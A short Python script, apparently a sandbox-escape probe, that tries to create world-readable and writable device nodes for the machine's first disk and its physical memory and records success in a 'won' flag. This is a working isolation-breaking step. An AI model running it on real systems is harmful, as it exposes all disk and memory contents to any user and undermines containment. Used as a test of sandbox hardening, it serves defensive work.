# gains: the disk and the memory of the machine as files
# bare: root
import os
import stat

won = False
for name, kind, number in (("disk", stat.S_IFBLK, (8, 0)), ("memory", stat.S_IFCHR, (1, 1))):
    try:
        os.mknod(name, kind | 0o666, os.makedev(*number))
        won = True
    except OSError:
        pass
